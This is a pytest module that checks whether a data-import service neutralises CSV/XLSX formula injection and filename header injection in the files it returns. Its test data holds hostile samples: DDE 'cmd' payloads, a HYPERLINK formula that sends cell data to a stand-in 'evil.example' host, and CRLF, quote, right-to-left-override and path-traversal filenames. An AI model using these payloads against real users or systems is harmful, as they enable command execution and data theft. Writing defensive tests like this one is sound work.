"""Groups F1, F2 and F5: whatever a sender wrote, the files that give it back execute nothing and have honest names."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote
from xml.etree import ElementTree as ET

import pytest

from tests.hostile.case import as_problem
from tests.hostile.product import JSON, PUSH, Product
from tests.hostile.rows import CSV, NDJSON
from tests.hostile.wire import Answer
from tests.hostile.workbooks import XLSX, parts, sheet, zipped

FORMULAS = {
    "F1 =": "=1+1",
    "F1 +": "+1+cmd|' /C calc'!A0",
    "F1 -": "-1+1",
    "F1 @": "@SUM(1+1)",
    "F1 TAB": "\t=1+1",
    "F1 CR": "\r=1+1",
    "F1 a link": '=HYPERLINK("http://evil.example/?"&A1,"报表")',
    "F1 a pipe": "=cmd|'/C calc'!'A1'",
    "F2 full-width =": "＝1+1",
    "F2 full-width @": "＠SUM(1+1)",
    "F2 blanks before": "   =1+1",
    "F2 an ideographic blank before": "\u3000=1+1",
    "F2 a line end before": "\n=1+1",
    "F2 a zero-width space before": "\u200b=1+1",
    "F2 behind a separator": "a;=1+1",
    "F2 behind a quote": '"=1+1',
    "F2 minus sign": "−1+1",
}
STARTS = "=+-@＝＋－＠−"
_SKIPPED = ' \t\r\n\u3000\u200b"'
_TITLES = ("metric", "area", "month", "value", "note")
_HEADER = (*_TITLES, "=1+1")
_SHEETS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _cells(text: str) -> tuple[str, ...]:
    """A row with the text wherever one may be written, and a count below nought."""
    return (text, text, text, "-5", text)


def _as_csv() -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows([_HEADER, *map(_cells, FORMULAS.values())])
    return out.getvalue().encode()


def _objects() -> list[dict[str, str | int]]:
    return [{**dict(zip(_TITLES, _cells(text), strict=True)), "value": -5, text: text} for text in FORMULAS.values()]


WRITTEN: dict[str, Callable[[], bytes]] = {
    CSV: _as_csv,
    XLSX: lambda: zipped(parts(sheet(_HEADER, *map(_cells, FORMULAS.values())))),
    JSON: lambda: json.dumps({"observations": _objects()}).encode(),
    NDJSON: lambda: b"\n".join(json.dumps(each).encode() for each in _objects()),
}


@dataclass(frozen=True)
class GivenBack:
    """The files with a push's errors."""

    table: Answer
    workbook: Answer

    @property
    def rows(self) -> list[list[str]]:
        """Rows of the CSV as another program reads them."""
        return list(csv.reader(io.StringIO(self.table.body.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module", params=WRITTEN, ids=["CSV", "XLSX", "JSON", "NDJSON"])
def given_back(product: Product, request: pytest.FixtureRequest) -> GivenBack:
    """The files of a push that holds every formula, a row each."""
    refused = as_problem(product.send(WRITTEN[request.param](), request.param), 422, "rows_refused")
    path = f"/v1/imports/{refused['import_id']}/errors"
    return GivenBack(*(product.get(f"{path}.{ending}", "telecom") for ending in ("csv", "xlsx")))


@pytest.mark.parametrize("number", range(len(FORMULAS)), ids=FORMULAS)
def test_a_formula_given_back_in_a_table_is_a_text(product: Product, given_back: GivenBack, number: int) -> None:
    product.ran["F"] += 1

    row = given_back.rows[number + 1]

    assert [cell for cell in row if _starts_a_formula(cell)] == ["-5"]  # a number stays a number
    assert any(_bare(list(FORMULAS.values())[number]) in cell for cell in row), row


def test_files_given_back_execute_nothing_and_have_honest_names(product: Product, given_back: GivenBack) -> None:
    product.ran["F"] += 1

    _executes_nothing(given_back.workbook.body)
    for answer in (given_back.table, given_back.workbook):
        _has_an_honest_name(answer)
    assert not any(map(_starts_a_formula, given_back.rows[0]))
    product.still_fast()


def _starts_a_formula(cell: str) -> bool:
    return cell.lstrip(_SKIPPED).startswith(tuple(STARTS)) or cell.startswith(("\t", "\r", "\n"))


def _bare(text: str) -> str:
    return re.sub(r"\s", "", text)[-3:]


def _executes_nothing(workbook: bytes) -> None:
    """Cells are texts and numbers; nothing is computed, linked or called."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        names = archive.namelist()
        sheets = [ET.fromstring(archive.read(name)) for name in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]  # noqa: S314 - our own
        relations = b"".join(archive.read(name) for name in names if name.endswith(".rels"))
    assert sheets
    assert not [name for name in names if re.search("vba|external|embed|connection|calcChain", name, re.IGNORECASE)]
    assert b'TargetMode="External"' not in relations
    for each in sheets:
        assert each.find(f".//{_SHEETS}f") is None
        assert {cell.get("t", "n") for cell in each.iter(f"{_SHEETS}c")} <= {"s", "inlineStr", "n"}
        for number in (cell for cell in each.iter(f"{_SHEETS}c") if cell.get("t", "n") == "n"):
            float(number.findtext(f"{_SHEETS}v") or "0")


_NAME = re.compile(r"attachment; filename=\"[A-Za-z0-9._-]{1,100}\"; filename\*=UTF-8''[A-Za-z0-9._~%-]{1,900}")


def _has_an_honest_name(answer: Answer) -> None:
    assert answer.status == 200
    assert _NAME.fullmatch(answer.headers["Content-Disposition"])
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


NAMES = {
    "F5 a line break": "observations\r\nSet-Cookie: a=b",
    "F5 quotes": 'observations";filename="x.exe',
    "F5 4 KB": "o" * 4_096,
    "F5 a right-to-left mark": "observations\u202exslx",
    "F5 a path": "../../observations",
    "F5 NUL": "observations\0",
    "F5 no UTF-8": b"observations\xff",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
@pytest.mark.parametrize("path", ["/v1/templates/{}.csv?month=2022-08", "/v1/imports/{}/errors.csv"])
def test_a_name_that_is_none_gets_into_no_header(product: Product, name: str | bytes, path: str) -> None:
    product.ran["F"] += 1

    answer = product.get(path.format(quote(name, safe="")), "telecom")

    assert answer.status in {404, 422}
    as_problem(answer, answer.status, "not_found" if answer.status == 404 else "schema")
    assert {"set-cookie", "content-disposition"}.isdisjoint(name.lower() for name in answer.headers)
    product.still_fast()


def test_a_template_executes_nothing_and_has_an_honest_name(product: Product) -> None:
    for ending in ("csv", "xlsx"):
        template = product.get(f"/v1/templates/observations.{ending}?month=2022-08", "telecom")
        _has_an_honest_name(template)
        if ending == "xlsx":
            _executes_nothing(template.body)


def test_a_note_that_starts_a_formula_stays_the_text_it_is(product: Product) -> None:
    product.ran["F"] += 1
    row = {"metric": "fbb_subs_total", "area": "liangjiang", "month": "2003-03", "value": 5, "note": "=1+1"}

    taken = product.send(json.dumps({"observations": [row]}).encode())
    (stored,) = product.get(f"{PUSH}?org=telecom&month=2003-03").document["items"]

    assert (taken.status, stored["note"]) == (201, "=1+1")
